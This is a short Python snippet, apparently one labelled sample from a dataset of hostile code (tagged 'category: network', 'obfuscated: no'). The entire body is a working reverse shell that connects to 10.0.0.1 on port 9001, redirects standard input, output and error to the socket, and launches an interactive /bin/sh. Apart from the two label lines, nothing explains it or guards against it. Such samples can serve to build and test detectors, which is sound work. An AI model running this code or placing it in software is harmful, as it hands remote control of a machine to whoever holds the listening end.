# category: network
# obfuscated: no
import socket, subprocess, os
s = socket.socket()
s.connect(("10.0.0.1", 9001))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
